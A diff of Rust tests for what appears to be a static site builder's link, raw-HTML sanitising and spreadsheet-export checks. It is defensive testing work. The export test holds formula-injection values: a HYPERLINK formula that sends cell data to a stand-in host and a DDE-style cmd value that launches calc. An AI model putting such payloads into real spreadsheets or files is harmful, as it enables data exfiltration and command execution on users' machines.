@@ -112,9 +112,11 @@ fn a_link_inside_a_link_is_found_and_its_words_stay() {
 
 #[test]
 fn a_call_of_a_footnote_in_a_link_stands_behind_it() {
-    let html = page(&site(PLAIN, "[text[^1] more](other.md) end\n\n[^1]: A note.\n").build_clean(), "a/index.html");
-    let main = main_of(&html);
-    assert!(main.contains("text more</a><sup><a href=\"#fn1\""), "{main}");
+    for outer in ["<a href=\"other.md\">text[^1] more</a> end", "x <a href=\"other.md\">text[^1] more</a>"] {
+        let html = page(&site(RAW, &format!("{outer}\n\n[^1]: A note.\n")).build_clean(), "a/index.html");
+        let main = main_of(&html);
+        assert!(main.contains("text more</a><sup><a href=\"#fn1\""), "{main}");
+    }
 }
 
 #[test]
@@ -122,17 +124,17 @@ fn raw_html_is_checked_as_markdown_is() {
     let text = "<div>Of all, {{ stat(id=\"n\") }} and {{ stat(id=\"no\") }}; 51 percent of it. <a href=\"nope.md\">x</a> \
                 <a href=\"other.md\">y</a> <a href=\"#none\">z</a> <a href=\"other.md#raw-part\">p</a> <a href=\"/other/\">r</a></div>\n\n\
                 <p id=\"main\">one</p><p id=\"two\">2</p><p id=\"two\">2</p>\n\nText <a href=\"nope2.md\">a link</a>.\n\n\
-                <h1>One</h1><h4>Four</h4><h2 id=\"five\">Five</h2>\n\n[to five](#five) [to two](#two)\n\n\
+                <h1>One</h1><h4>Four</h4><h2 id=\"five\">Five</h2>\n\n## Six\n\n## Seven\n\n[to five](#five) [to two](#two)\n\n\
                 <div>{{ stat(id= }}</div>\n\n<p title=\"{{ stat(id='n') }}\">x</p>\n";
     let built = site(RAW, text).build();
-    assert_eq!(places(&built, Code::BrokenLink), ["4:111", "8:15"]);
+    assert_eq!(places(&built, Code::BrokenLink), ["4:85", "8:15"]);
     assert_eq!(places(&built, Code::BrokenFragment).len(), 1);
     assert_eq!(places(&built, Code::RootLink).len(), 1);
     assert_eq!(places(&built, Code::UnknownStatistic).len(), 1);
-    assert_eq!(places(&built, Code::DuplicateId), ["6:8", "6:49"]);
+    assert_eq!(places(&built, Code::DuplicateId), ["6:8", "6:45"]);
     assert_eq!(places(&built, Code::SecondTitle), ["10:1"]);
     assert_eq!(places(&built, Code::SkippedHeading), ["10:13"]);
-    assert_eq!(places(&built, Code::LooseNumber).first().map(String::as_str), Some("4:73"));
+    assert_eq!(places(&built, Code::LooseNumber).first().map(String::as_str), Some("4:58"));
     assert_eq!(places(&built, Code::MalformedCall).len(), 2);
     let html = page(&built, "a/index.html");
     assert!(html.contains("href=../other/>y</a>") && html.contains("href=../other/#raw-part>p</a>"), "{html}");
@@ -157,10 +159,10 @@ fn what_sanitising_takes_out_is_named_once_and_its_words_stay() {
                 <input type=\"CHECKBOX\"> <?php x ?> <div class=\"open";
     let built = site(RAW, text).build();
     let places = places(&built, Code::RawHtml);
-    let wanted = ["4:6", "4:20", "4:52", "4:57", "6:50", "8:1", "10:1", "10:36", "10:53", "10:77", "12:25", "12:36"];
+    let wanted = ["4:6", "4:20", "4:52", "4:57", "6:50", "8:1", "10:1", "10:35", "10:54", "10:77", "12:25"];
     assert_eq!(places, wanted);
     let main = main_of(&page(&built, "a/index.html"));
-    for word in ["film", "words", "bold", "again", "cell", "Go", ">t", "type=\"checkbox\"", "&lt;div class"] {
+    for word in ["film", "words", "bold", "again", "cell", "Got", "type=\"checkbox\"", "&lt;div class"] {
         assert!(main.contains(word), "{word}: {main}");
     }
     for gone in ["alert", "password", "onclick", "<form", "<video"] {
@@ -183,8 +185,8 @@ fn harmless_attributes_stay() {
 fn images_of_raw_html_are_those_of_markdown() {
     let built = site(RAW, "<p><img src=\"nope.png\" alt=\"A map\"></p>\n\nx <img src=\"https://a.example/x.png\" alt=\"A <b> & c\"> <img src=\"javascript:x\">").build();
     assert_eq!(places(&built, Code::BrokenLink), ["4:14"]);
-    assert_eq!(places(&built, Code::MissingAlt), ["6:57"]);
-    assert_eq!(places(&built, Code::ForbiddenScheme), ["6:67"]);
+    assert_eq!(places(&built, Code::MissingAlt), ["6:55"]);
+    assert_eq!(places(&built, Code::ForbiddenScheme), ["6:65"]);
     let main = main_of(&page(&built, "a/index.html"));
     assert!(main.contains("<a href=\"https://a.example/x.png\">A &lt;b&gt; &amp; c</a>"), "{main}");
 }
@@ -358,12 +360,11 @@ proptest! {
         let text = pieces.concat();
         let html = page(&site(RAW, &text).build(), "a/index.html");
         prop_assert!(!nests_links(&html), "{}\n{}", text, html);
-        prop_assert!(!main_of(&html).contains("data-number"), "{}\n{}", text, html);
         let document = Html::parse_document(&html);
         for element in select(&document, "main *") {
             prop_assert!(!matches!(element.value().name(), "script" | "form" | "img" | "iframe"), "{}", html);
             for (name, value) in element.value().attrs() {
-                prop_assert!(!name.starts_with("on"), "{}", html);
+                prop_assert!(!name.starts_with("on") && name != "data-number", "{}", html);
                 prop_assert!(!value.trim_start().to_ascii_lowercase().starts_with("javascript"), "{}", html);
             }
         }
@@ -437,7 +438,7 @@ fn no_cell_of_the_table_is_a_formula_and_numbers_stay_numbers() {
     let folder = site(PLAIN, "x");
     folder.write(
         "content/statistics.yaml",
-        "- { id: n, value: -5.5, unit: count, period: unknown, source: s, of: \"\u{ff1d}1+1\", area: '=HYPERLINK(\"http://e.example/?\"&A1)', \
+        "- { id: n, value: -5.5, unit: percentage-points, period: unknown, source: s, of: \"\u{ff1d}1+1\", area: '=HYPERLINK(\"http://e.example/?\"&A1)', \
          note: \"@SUM(1)*cmd|' /C calc'!A0\", indicator: \"m\u{e9}nages\", as_written: \"-5.5\" }\n",
     );
     let built = folder.build();
@@ -449,7 +450,7 @@ fn no_cell_of_the_table_is_a_formula_and_numbers_stay_numbers() {
     let wanted = [
         "n",
         "-5.5",
-        "count",
+        "percentage-points",
         "-5.5",
         "'\u{ff1d}1+1",
         "m\u{e9}nages",
@@ -469,7 +470,9 @@ fn a_file_in_the_place_of_a_compressed_form_is_a_clash() {
         folder.write("content/site.yaml", &format!("title: T\nbase_url: https://a.example/\nhost: {host}\ntheme: [own, plain]\nlanguages: {{ en: {{ at: / }} }}\n"));
         folder.write("themes/own/strings/en.yaml", "menu: Menu\n");
         folder.write("content/en/a.md", "---\ntitle: A\naliases: [/old.html, /older/]\n---\n");
-        write.iter().for_each(|(path, text)| drop(folder.write(path, text)));
+        for (path, text) in write {
+            folder.write(path, text);
+        }
         places(&folder.build(), Code::AddressClash).len()
     };
     for path in [
@@ -498,6 +501,9 @@ fn a_file_in_the_place_of_a_compressed_form_is_a_clash() {
 #[test]
 fn a_character_that_looks_like_a_space_is_named() {
     let built = site(PLAIN, "x").write("content/en/b.md", "---\ntitle:\u{a0}B\n---\n").build();
+    let found = built.report.findings().iter().find(|finding| finding.code == Code::WrongType).unwrap();
+    assert!(found.help.as_ref().is_some_and(|help| help.contains("U+00A0 (no-break space)")), "{found:?}");
+    let built = site(PLAIN, "x").write("content/en/b.md", "---\ntitle:\u{a0}B\ndescription: d\n---\n").build();
     let found = built.report.findings().iter().find(|finding| finding.code == Code::InvalidYaml).unwrap();
     assert!(found.message.contains("U+00A0 (no-break space)"), "{}", found.message);
     let built = site(PLAIN, "x").write("content/en/b.md", "---\ntitle: B\n\u{a0}description: d\n---\n").build();
